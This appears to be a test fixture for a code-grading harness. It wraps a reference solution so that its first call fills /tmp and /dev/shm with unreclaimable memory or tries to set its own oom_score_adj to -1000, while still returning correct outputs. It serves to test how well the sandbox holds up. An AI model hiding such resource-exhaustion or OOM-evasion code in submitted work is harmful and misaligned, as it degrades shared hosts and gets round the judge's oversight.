"""Take the host's memory in ways the OOM killer cannot give back, or make the solution the last
process it would end. Appended to the reference's source by the test; the outputs stay honest.

VARIANT "tmpfs": on its first call, rank 0 writes files of CHUNK_MIB into the sandbox's /tmp and
/dev/shm until a write fails or CAP_MIB have gone into each. Files on a tmpfs are memory that no
process owns: killing the writer frees none of it, so only a size limit on the mount bounds it.
Prints `PKB-ATTACK-TMPFS <dir> <bytes written> <errno of the failed write, or 0>` per directory.

VARIANT "oom_score": reads its own /proc/self/oom_score_adj and tries to lower it to -1000 and to 0
(the kernel's OOM killer would then end the judge, the worker or the database before it). Prints
`PKB-ATTACK-OOM-SCORE-ADJ <value read>` and `PKB-ATTACK-OOM-LOWERED <True|False> <value after>`.

The test reads the markers from the document's log.
"""

import os as _os

import torch.distributed as _dist

VARIANT = "tmpfs"
CHUNK_MIB = 32
CAP_MIB = 1024
_first = [True]
_reference_solution = solution  # noqa: F821 - the reference's, defined above this file


def _fill(directory):
    chunk = memoryview(b"\xa5" * (CHUNK_MIB << 20))
    written, error, index = 0, 0, 0
    while written < CAP_MIB << 20 and not error:
        fd = _os.open(_os.path.join(directory, f"pkb-attack-fill-{index}"), _os.O_WRONLY | _os.O_CREAT, 0o600)
        index += 1
        try:
            view = chunk
            while view:  # a write that fills the mount returns short; the next one fails
                n = _os.write(fd, view)
                written += n
                view = view[n:]
        except OSError as exc:
            error = exc.errno or -1
        finally:
            _os.close(fd)
    print(f"PKB-ATTACK-TMPFS {directory} {written} {error}", flush=True)


def _oom_score():
    def read():
        with open("/proc/self/oom_score_adj") as f:
            return int(f.read())

    before = read()
    print(f"PKB-ATTACK-OOM-SCORE-ADJ {before}", flush=True)
    for value in ("-1000", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w") as f:
                f.write(value)
        except OSError:
            pass
    after = read()
    print(f"PKB-ATTACK-OOM-LOWERED {after < before} {after}", flush=True)


def solution(*inputs):
    if _first[0] and _dist.get_rank() == 0:
        _first[0] = False
        if VARIANT == "tmpfs":
            for directory in ("/tmp", "/dev/shm"):
                _fill(directory)
        else:
            _oom_score()
    return _reference_solution(*inputs)
